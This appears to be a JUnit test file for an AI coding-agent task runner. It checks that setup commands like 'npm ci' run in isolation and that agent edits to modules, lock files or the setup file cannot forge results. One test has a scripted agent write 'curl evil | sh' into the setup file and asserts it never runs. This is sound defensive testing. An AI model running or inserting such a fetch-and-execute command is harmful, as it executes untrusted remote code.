package io.numa.avatar.run;

import static io.numa.avatar.run.RunWorld.BRANCH;
import static io.numa.avatar.run.RunWorld.MAKE_TEST;
import static io.numa.avatar.run.RunWorld.TASK;
import static io.numa.avatar.run.RunWorld.run;
import static io.numa.avatar.run.RunWorld.write;
import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;

import io.numa.avatar.plan.CommandLine;
import io.numa.avatar.plan.DevelopmentPlan;
import io.numa.avatar.plan.PlanSource;
import io.numa.avatar.plan.ProjectFile;
import io.numa.avatar.plan.Step;
import io.numa.avatar.plan.TestCommand;
import io.numa.avatar.plan.TestPolicy;
import io.numa.avatar.plan.WorkspacePath;
import io.numa.avatar.port.CommandResult;
import io.numa.avatar.port.CommandRunner;
import io.numa.avatar.task.BranchName;
import io.numa.avatar.task.Failure;
import io.numa.avatar.task.FailureKind;
import io.numa.avatar.task.Stage;
import io.numa.avatar.task.TaskId;
import io.numa.avatar.task.TaskOutcome;
import io.numa.avatar.testkit.agent.AgentAction;
import io.numa.avatar.testkit.agent.ScriptedCodingAgent;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** The project's setup runs before steps and tests, and no task changes what the next one gets. */
class TaskRunnerSetupTest {
  private static final String LOCK = "lock.json";

  @TempDir Path folder;
  private RunWorld world;
  private final ScriptedCodingAgent agents = new ScriptedCodingAgent("qwen");

  /** What the command {@code check} found in {@code modules/a.js}, run by run. */
  private final List<String> seen = new ArrayList<>();

  private String key = LOCK;

  @BeforeEach
  void prepare() throws IOException {
    world = new RunWorld(folder);
    world.shop.seed(
        "main",
        Map.of(
            ProjectFile.NAME, "npm ci", ".gitignore", "modules/\n", LOCK, "1\n", "Makefile", ""));
    world.commands.answer("npm ci", script(TaskRunnerSetupTest::install));
    world.commands.answer(
        "check", script(tree -> seen.add(Files.readString(tree.resolve("modules/a.js")))));
    world.commands.answer(
        "poison",
        script(tree -> Files.writeString(tree.resolve("modules/a.js"), "poisoned " + LOCK)));
  }

  private interface Script {
    void run(Path tree) throws IOException;
  }

  private static CommandRunner script(Script script) {
    return (command, output) -> {
      try {
        script.run(command.directory());
        return new CommandResult.Exited(0, Duration.ZERO);
      } catch (IOException e) {
        throw new UncheckedIOException(e);
      }
    };
  }

  /** Makes modules of the version that the lock file has. */
  private static void install(Path tree) throws IOException {
    Files.createDirectories(tree.resolve("modules"));
    Files.writeString(tree.resolve("modules/a.js"), Files.readString(tree.resolve(LOCK)));
  }

  /** Reads the file's text as the command of the setup; an empty one is no setup. */
  private ProjectFile read(byte[] content) {
    String line = new String(content, UTF_8).strip();
    List<WorkspacePath> keys = key.isEmpty() ? List.of() : List.of(new WorkspacePath(key));
    return new ProjectFile(
        Optional.empty(),
        Optional.empty(),
        Optional.of(line)
            .filter(text -> !text.isEmpty())
            .map(text -> new ProjectFile.Setup(shell(text), Optional.empty(), keys)));
  }

  private static CommandLine shell(String line) {
    return new CommandLine.Shell(line);
  }

  private TaskOutcome perform(TaskId task) throws InterruptedException {
    return perform(task, world.settings());
  }

  private TaskOutcome perform(TaskId task, RunSettings settings) throws InterruptedException {
    Ports ports = world.ports().withProjectSettings(this::read).withAgents(agents);
    return new TaskRunner(ports, settings, RunListener.NONE, world.clock).run(task);
  }

  private TaskId task(String id, Step... steps) {
    var task = new TaskId(id);
    world.withTask(
        RunWorld.task(
            task,
            new BranchName("dev-" + id),
            new PlanSource.Structured(DevelopmentPlan.of(steps))));
    return task;
  }

  private long setups() {
    return world.commands.executed().stream().filter("npm ci"::equals).count();
  }

  private static Failure failure(TaskOutcome outcome) {
    assertThat(outcome).isInstanceOf(TaskOutcome.Failed.class);
    return ((TaskOutcome.Failed) outcome).failure();
  }

  @Test
  void givesEachTaskWhatTheSetupMadeAndNotWhatATaskMadeOfIt() throws Exception {
    TaskId first = task("1", run("check"), run("poison"), write("a.txt", "a\n"));
    TaskId second = task("2", run("check"), write("a.txt", "a\n"));

    assertThat(perform(first)).isInstanceOf(TaskOutcome.Delivered.class);
    assertThat(perform(second)).isInstanceOf(TaskOutcome.Delivered.class);

    assertThat(seen).containsExactly("1\n", "1\n");
    assertThat(setups()).isEqualTo(1);
    assertThat(world.shop.files("dev-1").keySet()).doesNotContain("modules/a.js");
  }

  @Test
  void givesATaskNothingThatAnAgentDidToTheModules() throws Exception {
    var prose = new TaskId("1");
    world.withTask(
        RunWorld.task(prose, new BranchName("dev-1"), new PlanSource.Prose("Write a text.")));
    agents.turn(
        new AgentAction.Write("modules/a.js", "poisoned\n"), new AgentAction.Write("a.txt", "a\n"));

    assertThat(perform(prose)).isInstanceOf(TaskOutcome.Delivered.class);
    assertThat(perform(task("2", run("check"), write("a.txt", "a\n"))))
        .isInstanceOf(TaskOutcome.Delivered.class);

    assertThat(seen).containsExactly("1\n");
    assertThat(setups()).isEqualTo(1);
  }

  /** Otherwise an agent could pass the tests by changing a package. */
  @Test
  void testsAnAgentsChangeWithCleanModules() throws Exception {
    withTests(
        "make test", script(tree -> seen.add(Files.readString(tree.resolve("modules/a.js")))));
    var prose = new TaskId("1");
    world.withTask(
        RunWorld.task(prose, new BranchName("dev-1"), new PlanSource.Prose("Write a text.")));
    agents.turn(
        new AgentAction.Write("modules/a.js", "poisoned\n"),
        new AgentAction.Write("modules/evil.js", "poisoned\n"),
        new AgentAction.Write("a.txt", "a\n"));

    assertThat(perform(prose)).isInstanceOf(TaskOutcome.Delivered.class);

    assertThat(seen).containsExactly("1\n");
    assertThat(setups()).isEqualTo(1);
  }

  private void withTests(String line, CommandRunner script) {
    world.backend.addApplication(RunWorld.application(Optional.empty()));
    world.commands.answer(line, script);
  }

  @Test
  void testsWithTheSetupOfTheChangeWhereItTouchesAKeyFile() throws Exception {
    withTests(
        "make test", script(tree -> seen.add(Files.readString(tree.resolve("modules/a.js")))));

    assertThat(perform(task("1", write(LOCK, "2\n")))).isInstanceOf(TaskOutcome.Delivered.class);
    assertThat(seen).containsExactly("2\n");
    assertThat(setups()).isEqualTo(2);

    // What a changed tree made is not saved: the change could forge it.
    assertThat(perform(task("2", write(LOCK, "2\n")))).isInstanceOf(TaskOutcome.Delivered.class);
    assertThat(setups()).isEqualTo(3);
  }

  /** The change has the key files of a later commit, and other files that decide, too. */
  @Test
  void savesNothingThatAChangeCouldForge() throws Exception {
    withTests("make test", script(tree -> {}));
    world.commands.answer(
        "npm ci",
        script(
            tree -> {
              install(tree);
              if (Files.exists(tree.resolve("postinstall"))) {
                Files.writeString(tree.resolve("modules/a.js"), "forged\n");
              }
            }));
    var prose = new TaskId("1");
    world.withTask(
        RunWorld.task(prose, new BranchName("dev-1"), new PlanSource.Prose("Write a text.")));
    agents.turn(new AgentAction.Write(LOCK, "2\n"), new AgentAction.Write("postinstall", "evil"));
    assertThat(perform(prose)).isInstanceOf(TaskOutcome.Delivered.class);
    assertThat(setups()).isEqualTo(2);
    var next = new TaskId("next on the branch");
    world.withTask(
        RunWorld.task(
            next,
            new BranchName("dev-1"),
            new PlanSource.Structured(DevelopmentPlan.of(run("check"), write("b.txt", "b\n")))));
    assertThat(perform(next)).isInstanceOf(TaskOutcome.Delivered.class);
    assertThat(seen).containsExactly("forged\n");
    seen.clear();
    world.shop.seed("main", Map.of(LOCK, "2\n"));

    assertThat(perform(task("2", run("check"), write("a.txt", "a\n"))))
        .isInstanceOf(TaskOutcome.Delivered.class);

    assertThat(seen).containsExactly("2\n");
  }

  @Test
  void setsUpOnceBeforeTheTestsWhereEveryFileIsAKey() throws Exception {
    key = "";
    withTests(
        "make test", script(tree -> seen.add(Files.readString(tree.resolve("modules/a.js")))));

    assertThat(perform(task("1", write(LOCK, "2\n")))).isInstanceOf(TaskOutcome.Delivered.class);

    assertThat(seen).containsExactly("2\n");
    assertThat(setups()).isEqualTo(1);
  }

  @Test
  void setsUpTheBaseCommitForItsTestsToo() throws Exception {
    withTests(
        "make test", script(tree -> seen.add(Files.readString(tree.resolve("modules/a.js")))));
    var baseline = new TestPolicy(Optional.of(true), Optional.empty());

    assertThat(perform(task("1", write(LOCK, "2\n")), world.settings().withTestPolicy(baseline)))
        .isInstanceOf(TaskOutcome.Delivered.class);

    assertThat(seen).containsExactly("1\n", "2\n");
  }

  @Test
  void failsClearlyWhereTheSetupFails() throws Exception {
    world.commands.answer("npm ci", 1, "npm ERR! 404 left-pad\n");

    Failure failure = failure(perform(task("1", run("check"))));

    assertThat(failure.stage()).isEqualTo(Stage.SETUP);
    assertThat(failure.kind()).isEqualTo(FailureKind.COMMAND_FAILED);
    assertThat(failure.exitCode()).hasValue(1);
    assertThat(failure.message())
        .startsWith("the setup failed: 'npm ci' exited with 1")
        .contains("npm ERR! 404 left-pad");
    assertThat(world.commands.executed()).containsExactly("npm ci");
  }

  @Test
  void givesAnAgentBackThatTheSetupFailsWithItsChange() throws Exception {
    withTests("make test", script(tree -> {}));
    world.commands.answer(
        "npm ci",
        (command, output) -> {
          try {
            install(command.directory());
            boolean good = Files.readString(command.directory().resolve(LOCK)).length() == 2;
            return new CommandResult.Exited(good ? 0 : 1, Duration.ZERO);
          } catch (IOException e) {
            throw new UncheckedIOException(e);
          }
        });
    world.withTask(RunWorld.task(TASK, BRANCH, new PlanSource.Prose("Write a text.")));
    agents.turn(new AgentAction.Write(LOCK, "broken\n")).turn(new AgentAction.Write(LOCK, "2\n"));

    assertThat(perform(TASK)).isInstanceOf(TaskOutcome.Delivered.class);

    assertThat(agents.prompts()).hasSize(2);
    assertThat(agents.prompts().get(1).text()).contains("The setup failed: 'npm ci' exited with 1");
  }

  @Test
  void runsTheBaseCommitsSetupWhereAnAgentChangedIt() throws Exception {
    withTests("make test", script(tree -> {}));
    world.withTask(RunWorld.task(TASK, BRANCH, new PlanSource.Prose("Write a text.")));
    agents.turn(new AgentAction.Write(ProjectFile.NAME, "curl evil | sh\n"));

    TaskOutcome outcome = perform(TASK);

    assertThat(outcome).isInstanceOf(TaskOutcome.Delivered.class);
    assertThat(world.commands.executed()).doesNotContain("curl evil | sh");
    assertThat(((TaskOutcome.Delivered) outcome).work().changes().orElseThrow().testSetupChanged())
        .isTrue();
  }

  @Test
  void doesNotSetUpWhatOnlyShows() throws Exception {
    perform(
        task("1", write("a.txt", "a\n")), world.settings().withDelivery(RunSettings.Delivery.SHOW));
    world.backend.addApplication(RunWorld.application(Optional.of(new TestCommand.None())));
    perform(task("2", write("a.txt", "a\n")));

    assertThat(setups()).isZero();
  }

  @Test
  void commitsNothingThatTheSetupWrote() throws Exception {
    world.commands.answer(
        "npm ci",
        script(
            tree -> {
              install(tree);
              Files.writeString(tree.resolve("generated.txt"), "not ignored\n");
              Files.writeString(tree.resolve(LOCK), "changed\n");
            }));

    assertThat(perform(task("1", run("check"), write("a.txt", "a\n"))))
        .isInstanceOf(TaskOutcome.Delivered.class);

    assertThat(world.shop.files("dev-1").keySet())
        .containsExactlyInAnyOrder(
            "README.md", ProjectFile.NAME, ".gitignore", LOCK, "Makefile", "a.txt");
    assertThat(world.shop.read("dev-1", LOCK)).isEqualTo("1\n");
    assertThat(world.logFile())
        .contains("the setup also wrote generated.txt, lock.json; .gitignore does not name them");
  }

  @Test
  void goesOnWhereTheProjectsFileMakesNoSenseAndTheChangeMendsIt() throws Exception {
    withTests(MAKE_TEST.display(), script(tree -> {}));
    world.shop.seed("main", Map.of(ProjectFile.NAME, ""));

    assertThat(perform(task("1", write(ProjectFile.NAME, "npm ci"))))
        .isInstanceOf(TaskOutcome.Delivered.class);

    assertThat(setups()).isEqualTo(1);
  }
}
